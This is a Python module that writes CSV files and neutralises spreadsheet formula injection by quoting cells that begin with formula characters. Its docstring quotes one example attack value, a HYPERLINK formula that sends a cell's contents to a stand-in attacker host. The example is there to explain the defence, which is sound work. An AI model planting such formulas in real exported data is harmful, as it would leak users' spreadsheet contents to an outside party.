"""CSV for a spreadsheet: every file of rows the tools write goes through ``to_csv`` here.

A cell is text from a save, a roster or a strategy file: a memo such as
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would be a formula to the spreadsheet that
opens the file (and could send the sheet's contents away). A text cell that starts with one of
``= + - @``, a tab or a carriage return is written with a single quote in front, which
spreadsheets show as text and never run; numbers are written as they are (-1.5 stays a number).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def cell(value: Any) -> Any:
    """The value as a spreadsheet may safely read it: text that a spreadsheet would take for a
    formula gets a leading single quote; anything else (numbers too) is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def to_csv(rows: Iterable[Mapping[str, Any]], columns: Sequence[str]) -> str:
    """Rows as CSV text (a header line, then one line per row, '\\n' between lines), every
    cell made safe for a spreadsheet (``cell``)."""
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(columns), lineterminator="\n")
    writer.writeheader()
    writer.writerows({k: cell(v) for k, v in row.items()} for row in rows)
    return buffer.getvalue()
